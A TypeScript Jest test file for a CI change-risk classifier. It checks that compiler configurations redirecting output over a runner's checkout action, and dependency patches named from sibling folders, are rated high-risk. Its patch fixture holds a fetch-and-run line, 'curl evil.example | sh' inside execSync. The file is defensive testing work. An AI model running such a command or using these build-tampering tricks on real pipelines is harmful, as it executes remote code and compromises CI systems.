// Attacker pass 9n (test-only) on configurations a script names to tsc
// (src/core/risk/compiler-project-arguments.ts) and on patches named by reviewed settings beside,
// not above, the patch (src/pipeline/risk/read-reviewed-base.ts read only the manifests and
// workspace files of the folders above a changed file; it now lists the base and reads them in
// every folder; src/core/risk/patched-dependency-file-risks.ts).
// Each FAULT is a change whose build writes the compiled service over a runner action, or whose
// install patches a dependency's code, yet is classified low.
import { describe, expect, it } from '@jest/globals';
import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
import { readReviewedBase, type BaseFileReader } from '../../../src/pipeline/risk/read-reviewed-base.js';

const OUTSIDE = JSON.stringify({
  compilerOptions: { outDir: '/home/runner/work/_actions/actions/checkout' },
});
const PATCH =
  'diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-x\n+require("child_process").execSync("curl evil.example | sh")\n';
const manifest = (extra: Record<string, unknown>) =>
  JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { build: 'tsc' }, ...extra });

const riskOf = (files: Record<string, string>, base: Record<string, string> = {}) =>
  classifyRisk({
    files: Object.entries(files).map(([path, content]) => ({ path, content, role: 'config' as const })),
    targetEnvironment: 'staging',
    production: false,
    base: Object.entries(base).map(([path, content]) => ({ path, content })),
  });

/** The base read as the pipeline reads it (`readReviewedBase` over `repository`, listed whole), then classified. */
async function riskThroughPipeline(files: Record<string, string>, repository: Record<string, string>) {
  const changed = Object.entries(files).map(([path, content]) => ({ path, content }));
  const read: BaseFileReader = async (path) => repository[path];
  read.list = async () => Object.keys(repository);
  const base = await readReviewedBase({ paths: changed.map((file) => file.path), files: changed, read });
  return classifyRisk({
    files: changed.map((file) => ({ ...file, role: 'config' as const })),
    targetEnvironment: 'staging',
    production: false,
    base,
  });
}

describe('attacker 9n: tsc option spellings', () => {
  // TypeScript reads `--p` and `-project` alike (commandLineParser: one or two dashes, then
  // getOptionDeclarationFromName lower-cases and maps short names), and `-build`/`--b` as build mode
  // (isBuildCommand). Checked with the project's own tsc: `tsc --p build.json --showConfig`.
  it.each([
    ['tsc --p build.json', 'two dashes before the short name'],
    ['tsc -project build.json', 'one dash before the long name'],
    ['tsc -PROJECT build.json', 'one dash, capitals'],
    ['tsc -build build.json', 'build mode with one dash before the long name'],
    ['tsc --b build.json', 'build mode with two dashes before the short name'],
  ])('FAULT: a base build script %j (%s) judges the changed build.json', (build) => {
    expect(
      riskOf({ 'svc/build.json': OUTSIDE }, { 'svc/package.json': manifest({ scripts: { build } }) }).level,
    ).toBe('high');
  });

  it.each([['tsc -P build.json'], ['tsc --PROJECT build.json'], ['tsc -B build.json']])(
    'refused: a base build script %j judges the changed build.json',
    (build) => {
      expect(
        riskOf({ 'svc/build.json': OUTSIDE }, { 'svc/package.json': manifest({ scripts: { build } }) }).level,
      ).toBe('high');
    },
  );
});

describe('attacker 9n: a script that changes folder first', () => {
  // The shell runs `tsc -p build.json` in conf/ after `cd conf`: it reads svc/conf/build.json.
  it.each([
    ['cd conf && tsc -p build.json'],
    ['(cd conf; tsc -p build.json)'],
    ['cd conf; npx tsc --project build.json'],
  ])('FAULT: a base build script %j judges the changed conf/build.json', (build) => {
    expect(
      riskOf({ 'svc/conf/build.json': OUTSIDE }, { 'svc/package.json': manifest({ scripts: { build } }) })
        .level,
    ).toBe('high');
  });
});

describe('attacker 9n: settings beside the file they name, not above it', () => {
  it("FAULT: a patch a sibling folder's base package.json names by ../ (pnpm.patchedDependencies) is high", async () => {
    const risk = await riskThroughPipeline(
      { 'shared/fixes/lodash.diff': PATCH },
      {
        'svc/package.json': manifest({
          pnpm: { patchedDependencies: { 'lodash@4.17.21': '../shared/fixes/lodash.diff' } },
        }),
      },
    );
    expect(risk.level).toBe('high');
  });

  it("FAULT: a patch a workspace package's base manifest names from the project root (Yarn patch: #~/) is high", async () => {
    const risk = await riskThroughPipeline(
      { 'fixes/lodash.diff': PATCH },
      {
        'package.json': manifest({ workspaces: ['svc'] }),
        'svc/package.json': manifest({
          dependencies: { lodash: 'patch:lodash@npm%3A4.17.21#~/fixes/lodash.diff' },
        }),
      },
    );
    expect(risk.level).toBe('high');
  });

  it("FAULT: a configuration a sibling folder's base build script names by ../ (tsc -p ../conf/build.json) is high", async () => {
    const risk = await riskThroughPipeline(
      { 'conf/build.json': OUTSIDE },
      { 'svc/package.json': manifest({ scripts: { build: 'tsc -p ../conf/build.json' } }) },
    );
    expect(risk.level).toBe('high');
  });

  it('refused: the same patch named by the base package.json above it is high through the pipeline', async () => {
    const risk = await riskThroughPipeline(
      { 'svc/fixes/lodash.diff': PATCH },
      {
        'svc/package.json': manifest({
          pnpm: { patchedDependencies: { 'lodash@4.17.21': 'fixes/lodash.diff' } },
        }),
      },
    );
    expect(risk.level).toBe('high');
  });

  it('refused: given the sibling manifest, the classifier judges the patch it names by ../', () => {
    expect(
      riskOf(
        { 'shared/fixes/lodash.diff': PATCH },
        {
          'svc/package.json': manifest({
            pnpm: { patchedDependencies: { 'lodash@4.17.21': '../shared/fixes/lodash.diff' } },
          }),
        },
      ).level,
    ).toBe('high');
  });
});

describe('attacker 9n: base configurations other than tsconfig.json that extend a changed file', () => {
  // readReviewedBase reads only the `tsconfig.json` above a changed JSON file, then what it extends.
  // A script's `tsc -p tsconfig.build.json` and esbuild's `jsconfig.json` (CONFIG_NAME) are base
  // configurations too; what they extend is never read, so the changed file is not judged.
  const build = (script: string) =>
    JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { build: script } });
  const EXTENDS = JSON.stringify({ extends: './settings/compiler.json' });

  it('refused: a base tsconfig.json extending the changed file judges it', async () => {
    const risk = await riskThroughPipeline(
      { 'svc/settings/compiler.json': OUTSIDE },
      { 'svc/package.json': build('tsc'), 'svc/tsconfig.json': EXTENDS },
    );
    expect(risk.level).toBe('high');
  });

  it('FAULT: a base tsconfig.build.json (named by the base script tsc -p) extending the changed file judges it', async () => {
    const risk = await riskThroughPipeline(
      { 'svc/settings/compiler.json': OUTSIDE },
      { 'svc/package.json': build('tsc -p tsconfig.build.json'), 'svc/tsconfig.build.json': EXTENDS },
    );
    expect(risk.level).toBe('high');
  });

  it('FAULT: a base jsconfig.json (read by esbuild) extending the changed file judges it', async () => {
    const risk = await riskThroughPipeline(
      { 'svc/settings/compiler.json': OUTSIDE },
      {
        'svc/package.json': build('esbuild src/index.js --bundle --outdir=dist'),
        'svc/jsconfig.json': EXTENDS,
      },
    );
    expect(risk.level).toBe('high');
  });
});
